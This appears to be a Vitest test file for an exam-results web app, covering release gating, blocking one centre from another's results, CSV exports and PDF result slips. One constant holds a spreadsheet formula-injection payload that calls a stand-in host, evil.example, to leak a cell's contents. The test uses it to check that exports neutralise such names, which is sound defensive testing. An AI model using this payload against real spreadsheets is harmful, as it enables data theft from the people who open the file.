import { isHttpError, type RequestEvent } from '@sveltejs/kit';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { dayIn } from '../../src/lib/domain/centre-time.js';
import { SYSTEM_ACTOR } from '../../src/lib/server/audit/index.js';
import type { SessionUser } from '../../src/lib/server/auth/sessions.js';
import { approveResults, releaseResults } from '../../src/lib/server/awarding/approval.js';
import { computeSittingResults } from '../../src/lib/server/awarding/compute.js';
import type { DatabaseHandle } from '../../src/lib/server/db/index.js';
import { RESULT_CSV_COLUMNS } from '../../src/lib/server/reports/results-csv.js';
import { GET as rangeCsv } from '../../src/routes/centre/[centreId]/results.csv/+server.js';
import { load as resultsIndex } from '../../src/routes/centre/[centreId]/results/+page.server.js';
import { GET as mergedPdf } from '../../src/routes/centre/[centreId]/sittings/[sittingId]/result-slips.pdf/+server.js';
import { GET as sittingCsv } from '../../src/routes/centre/[centreId]/sittings/[sittingId]/results.csv/+server.js';
import { GET as slipPdf } from '../../src/routes/centre/[centreId]/sittings/[sittingId]/results/[attemptId]/slip.pdf/+server.js';
import { load as resultsPage } from '../../src/routes/centre/[centreId]/sittings/[sittingId]/results/+page.server.js';
import { createTestDatabase } from '../helpers/db.js';
import { makeCentre, makeStaff } from '../helpers/fixtures.js';
import { giveMarks, makeScripts } from '../helpers/marking-fixture.js';
import { allText, readPdf } from '../helpers/pdf-text.js';

/*
 * The centre's results downloads, called as SvelteKit calls the routes (a request event with the
 * signed-in user), on a real database: nothing before release, nothing of another centre's, and
 * what a spreadsheet or a slip shows is what the database holds.
 */
let h: DatabaseHandle;
beforeAll(async () => {
	h = await createTestDatabase();
});
afterAll(() => h.close());

// The fixture paper: items 1 (FL), 2 (FN), 3.a (FM), 3.b (FO), 5 marks each; pass 12, first class 16.
const FULL = {
	'1': 'Members of the public',
	'2': 'Phone and email',
	'3.a': 'Trust',
	'3.b': 'Listen and apologise'
};
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

const adminOf = (centreId: string, id = '00000000-0000-4000-8000-0000000000a1'): SessionUser => ({
	id,
	email: `admin.${centreId.slice(0, 8)}@example.test`,
	displayName: 'Centre admin',
	grants: [{ role: 'centre_admin', centreId }]
});

function event<E = RequestEvent>(
	user: SessionUser,
	path: string,
	params: Record<string, string>
): E {
	const url = new URL(path, 'http://exams.test');
	return {
		url,
		params,
		route: { id: null },
		request: new Request(url),
		locals: { db: h.db, user, session: null, candidate: null },
		getClientAddress: () => '192.0.2.1',
		setHeaders: () => {}
	} as unknown as E;
}

/** The HTTP status a route answered or threw (error() throws an HttpError). */
async function statusOf(run: () => unknown): Promise<number> {
	try {
		const r = await run();
		return r instanceof Response ? r.status : 200;
	} catch (e) {
		if (isHttpError(e)) return e.status;
		throw e;
	}
}

/** A marked, computed sitting: a first class pass, a fail with FK and area codes, a fail with a hostile name, an absentee. */
async function computedSitting() {
	const f = await makeScripts(
		h.db,
		[FULL, { '1': 'Shoppers', '2': 'A letter', '3.b': 'Something' }, FULL, {}],
		{ absent: [3] }
	);
	const marker = await makeStaff(h.db, 'marker');
	await giveMarks(h.db, f.scriptOf(0)!.id, marker.id, { '1': 5, '2': 5, '3.a': 4, '3.b': 4 });
	await giveMarks(h.db, f.scriptOf(1)!.id, marker.id, {
		'1': 2,
		'2': 1,
		'3.a': 0,
		'3.b': { mark: 0, fk: true }
	});
	await giveMarks(h.db, f.scriptOf(2)!.id, marker.id, { '1': 3, '2': 3, '3.a': 3, '3.b': 2 });
	await h.db
		.updateTable('candidate')
		.set({ first_name: EVIL_NAME, last_name: '+Sum', date_of_birth: '2001-02-03' })
		.where('id', '=', f.candidates[2]!.id)
		.execute();
	await computeSittingResults(h.db, SYSTEM_ACTOR, f.sitting.id, 'computed');
	const admin = adminOf(f.centre.id);
	const base = `/centre/${f.centre.id}/sittings/${f.sitting.id}`;
	const params = { centreId: f.centre.id, sittingId: f.sitting.id };
	const attempt = (i: number) => f.attemptOf(f.candidates[i]!.id);
	return { ...f, admin, base, params, attempt };
}

const release = async (paperVersionId: string) => {
	await approveResults(h.db, SYSTEM_ACTOR, paperVersionId);
	await releaseResults(h.db, SYSTEM_ACTOR, paperVersionId);
};

/** What the results page's load returns, as the page reads it. */
interface ResultsPageData {
	releasedAt: Date | null;
	rows: {
		candidateNumber: string;
		outcome: string;
		total: number | null;
		codes: { code: string; name: string }[];
	}[];
	bars: { outcome: string; count: number }[];
	summary: string;
}

const csvRows = (text: string) => parseCsv(text, { bom: true }) as string[][];

describe('release gates what a centre sees', () => {
	it('before release: "not yet released", no grades on the page, and every download is 404; after release all of it', async () => {
		const f = await computedSitting();
		const page = (await resultsPage(
			event(f.admin, `${f.base}/results`, f.params)
		)) as unknown as ResultsPageData;
		expect(page).toMatchObject({ releasedAt: null, rows: [] });
		expect(page.bars.every((b) => b.count === 0)).toBe(true);
		const index = (await resultsIndex(
			event(f.admin, `/centre/${f.centre.id}/results`, { centreId: f.centre.id })
		)) as { sittings: unknown[] };
		expect(index.sittings).toEqual([]);

		const slipParams = { ...f.params, attemptId: f.attempt(0) };
		expect(
			await statusOf(() => sittingCsv(event(f.admin, `${f.base}/results.csv`, f.params)))
		).toBe(404);
		expect(
			await statusOf(() => mergedPdf(event(f.admin, `${f.base}/result-slips.pdf`, f.params)))
		).toBe(404);
		expect(
			await statusOf(() =>
				slipPdf(event(f.admin, `${f.base}/results/${f.attempt(0)}/slip.pdf`, slipParams))
			)
		).toBe(404);
		// Approved is not released either.
		await approveResults(h.db, SYSTEM_ACTOR, f.paperVersionId);
		expect(
			await statusOf(() => sittingCsv(event(f.admin, `${f.base}/results.csv`, f.params)))
		).toBe(404);
		const range = await rangeCsv(
			event(f.admin, `/centre/${f.centre.id}/results.csv`, { centreId: f.centre.id })
		);
		expect(csvRows(await range.text())).toEqual([[...RESULT_CSV_COLUMNS]]);

		await releaseResults(h.db, SYSTEM_ACTOR, f.paperVersionId);
		const after = (await resultsPage(
			event(f.admin, `${f.base}/results`, f.params)
		)) as unknown as ResultsPageData;
		expect(after.releasedAt).toBeInstanceOf(Date);
		expect(
			after.rows.map((r) => [
				r.candidateNumber,
				r.outcome,
				r.total,
				r.codes.map((c) => c.code).join(' ')
			])
		).toEqual([
			['0001', 'First Class Pass', 18, ''],
			['0002', 'Fail', 3, 'FK FM FO FN'],
			['0003', 'Fail', 11, 'AA FO'],
			['0004', 'Absent', null, '']
		]);
		expect(after.bars.map((b) => b.count)).toEqual([1, 0, 2, 1, 0]);
		expect(after.summary).toBe(
			'4 candidates: 1 First Class Pass (25%), 2 Fail (50%), 1 Absent (25%).'
		);
		expect(
			await statusOf(() => sittingCsv(event(f.admin, `${f.base}/results.csv`, f.params)))
		).toBe(200);
		expect(
			await statusOf(() =>
				slipPdf(event(f.admin, `${f.base}/results/${f.attempt(0)}/slip.pdf`, slipParams))
			)
		).toBe(200);
		const listed = (await resultsIndex(
			event(f.admin, `/centre/${f.centre.id}/results`, { centreId: f.centre.id })
		)) as { sittings: { id: string }[] };
		expect(listed.sittings.map((s) => s.id)).toEqual([f.sitting.id]);
	});
});

describe('one centre cannot reach another centre’s results', () => {
	it('404 for the page, the CSV, the merged PDF and a slip, by either path; the date-range CSV holds only the own centre', async () => {
		const f = await computedSitting();
		await release(f.paperVersionId);
		const other = await makeCentre(h.db, 'Other Centre');
		const stranger = adminOf(other.id, '00000000-0000-4000-8000-0000000000b2');
		const slip = { attemptId: f.attempt(0) };
		// The stranger asks under the victim centre's address (their grant does not cover it) and
		// under their own centre's address with the victim's sitting (the sitting is not theirs).
		for (const centreId of [f.centre.id, other.id]) {
			const params = { centreId, sittingId: f.sitting.id };
			const base = `/centre/${centreId}/sittings/${f.sitting.id}`;
			expect(
				await statusOf(() => resultsPage(event(stranger, `${base}/results`, params))),
				centreId
			).toBe(404);
			expect(
				await statusOf(() => sittingCsv(event(stranger, `${base}/results.csv`, params))),
				centreId
			).toBe(404);
			expect(
				await statusOf(() => mergedPdf(event(stranger, `${base}/result-slips.pdf`, params))),
				centreId
			).toBe(404);
			expect(
				await statusOf(() =>
					slipPdf(
						event(stranger, `${base}/results/${slip.attemptId}/slip.pdf`, { ...params, ...slip })
					)
				),
				centreId
			).toBe(404);
		}
		expect(
			await statusOf(() =>
				rangeCsv(event(stranger, `/centre/${f.centre.id}/results.csv`, { centreId: f.centre.id }))
			)
		).toBe(404);
		const own = await rangeCsv(
			event(stranger, `/centre/${other.id}/results.csv`, { centreId: other.id })
		);
		expect(csvRows(await own.text())).toHaveLength(1);
		// An attempt of another sitting (even of the same centre) is not a slip of this one; a malformed id is 404, not 500.
		const g = await computedSitting();
		for (const attemptId of [g.attempt(0), '-'.repeat(36)]) {
			expect(
				await statusOf(() =>
					slipPdf(
						event(f.admin, `${f.base}/results/${attemptId}/slip.pdf`, { ...f.params, attemptId })
					)
				)
			).toBe(404);
		}
		const none = await h.db
			.selectFrom('audit_log')
			.select('id')
			.where('actor_label', '=', stranger.email)
			.where('action', 'like', 'document.%')
			.execute();
		expect(none).toHaveLength(1); // only their own (empty) date-range CSV
	});
});

describe('the CSV', () => {
	it('holds the database’s results, a formula-looking name as text, UTF-8 with a BOM, a safe file name; the download is audited', async () => {
		const f = await computedSitting();
		await release(f.paperVersionId);
		const res = await sittingCsv(event(f.admin, `${f.base}/results.csv`, f.params));
		expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
		expect(res.headers.get('content-disposition')).toMatch(
			/^attachment; filename="results-8992-111-T-\d{4}-\d\d-\d\d\.csv"$/
		);
		const bytes = new Uint8Array(await res.arrayBuffer());
		expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const [header, ...rows] = csvRows(new TextDecoder().decode(bytes));
		expect(header).toEqual([...RESULT_CSV_COLUMNS]);

		const db = await h.db
			.selectFrom('result as r')
			.innerJoin('attempt as a', 'a.id', 'r.attempt_id')
			.innerJoin('candidate as c', 'c.id', 'a.candidate_id')
			.select(['c.candidate_number', 'r.status', 'r.grade', 'r.total', 'r.codes', 'r.version'])
			.where('a.sitting_id', '=', f.sitting.id)
			.orderBy('c.candidate_number')
			.execute();
		const day = dayIn(f.sitting.scheduled_at);
		expect(rows.map((r) => [r[1], r[9], r[10], r[11], r[12], r[13]])).toEqual(
			db.map((d) => [
				d.candidate_number,
				{ graded: 'Graded', absent: 'Absent', void: 'Void' }[d.status],
				d.grade ?? '',
				d.total === null ? '' : String(d.total),
				(d.codes as string[]).join(' '),
				String(d.version)
			])
		);
		const evil = rows.find((r) => r[1] === '0003')!;
		expect(evil.slice(0, 5)).toEqual([
			f.centre.number,
			'0003',
			"'+Sum",
			`'${EVIL_NAME}`,
			'2001-02-03'
		]);
		expect(evil.slice(5, 9)).toEqual(['8992-11', '8992-111', '8992-111-T', day]);
		// No cell of the file starts with a formula character.
		for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

		const audit = await h.db
			.selectFrom('audit_log')
			.select(['action', 'centre_id', 'subject_type', 'subject_id', 'details'])
			.where('action', '=', 'document.results_csv')
			.where('subject_id', '=', f.sitting.id)
			.execute();
		expect(audit).toEqual([
			{
				action: 'document.results_csv',
				centre_id: f.centre.id,
				subject_type: 'sitting',
				subject_id: f.sitting.id,
				details: { rows: 4 }
			}
		]);
	});

	it('per date range: the sittings held in those days only; a bad range is 400', async () => {
		const f = await computedSitting();
		await release(f.paperVersionId);
		const day = dayIn(f.sitting.scheduled_at);
		const get = (q: string) =>
			rangeCsv(
				event(f.admin, `/centre/${f.centre.id}/results.csv?${q}`, { centreId: f.centre.id })
			);
		expect(csvRows(await (await get(`from=${day}&to=${day}`)).text())).toHaveLength(5);
		expect(csvRows(await (await get(`from=${day}`)).text())).toHaveLength(5);
		expect(csvRows(await (await get('to=2020-01-01')).text())).toHaveLength(1);
		expect(csvRows(await (await get('from=2099-01-01')).text())).toHaveLength(1);
		expect(await statusOf(() => get('from=2026-02-30'))).toBe(400);
		expect(await statusOf(() => get('from=2026-12-01&to=2026-11-01'))).toBe(400);
		const res = await get(`from=${day}&to=${day}`);
		expect(res.headers.get('content-disposition')).toBe(
			`attachment; filename="results-${f.centre.number}-${day}-to-${day}.csv"`
		);
	});
});

describe('result slips', () => {
	it('print the handbook’s qualification and unit, the outcome, and each code of a fail in the handbook’s words; one page per candidate merged', async () => {
		const f = await computedSitting();
		await release(f.paperVersionId);
		const res = await slipPdf(
			event(f.admin, `${f.base}/results/${f.attempt(1)}/slip.pdf`, {
				...f.params,
				attemptId: f.attempt(1)
			})
		);
		expect(res.headers.get('content-type')).toBe('application/pdf');
		expect(res.headers.get('content-disposition')).toBe(
			'inline; filename="result-slip-8992-111-T-0002.pdf"'
		);
		const pages = await readPdf(new Uint8Array(await res.arrayBuffer()));
		expect(pages).toHaveLength(1);
		const lines = pages[0]!.lines.map((l) => l.text);
		for (const line of [
			'City & Guilds Level 1 Award in Customer Service',
			'Qualification number 8992-11',
			'Regulatory number 500/3682/8',
			'Unit 8992-111 Level 1 Principles of Customer Service',
			'Level 1',
			'Credit value 6',
			'Candidate Cand2 Test',
			'Candidate number 0002',
			'Result Fail',
			'FK Misinterpretation of question(s)',
			'FM Organisations policies, complaints and confidentiality',
			'FO Knowledge, ability and attributes',
			'FN Methods of communication'
		]) {
			expect(lines, line).toContain(line);
		}
		expect(lines.some((l) => l.startsWith('Paper 8992-111-T '))).toBe(true);
		expect(lines.some((l) => /^Date of examination \w+day, \d+ \w+ \d{4}$/.test(l))).toBe(true);

		const merged = await mergedPdf(event(f.admin, `${f.base}/result-slips.pdf`, f.params));
		const all = await readPdf(new Uint8Array(await merged.arrayBuffer()));
		expect(all).toHaveLength(4);
		expect(all.map((p) => p.lines.find((l) => l.text.startsWith('Result '))?.text)).toEqual([
			'Result slip',
			'Result slip',
			'Result slip',
			'Result slip'
		]);
		expect(
			all.map(
				(p) => p.lines.find((l) => l.text.startsWith('Result ') && l.text !== 'Result slip')?.text
			)
		).toEqual(['Result First Class Pass', 'Result Fail', 'Result Fail', 'Result Absent']);
		// The hostile name is the text of its own cell; the narrow fail's codes in the handbook's words.
		const third = allText([all[2]!]);
		expect(third).toContain(`Candidate ${EVIL_NAME} +Sum`);
		expect(third).toContain('AA Narrow fail');
		expect(allText([all[0]!])).not.toContain('Performance codes');
		expect(allText([all[3]!])).toContain('did not sit this examination');

		const audit = await h.db
			.selectFrom('audit_log')
			.select(['action', 'subject_type'])
			.where('centre_id', '=', f.centre.id)
			.where('action', 'like', 'document.result%')
			.execute();
		expect(audit.map((a) => `${a.action} ${a.subject_type}`).sort()).toEqual([
			'document.result_slip attempt',
			'document.result_slips sitting'
		]);
	});
});
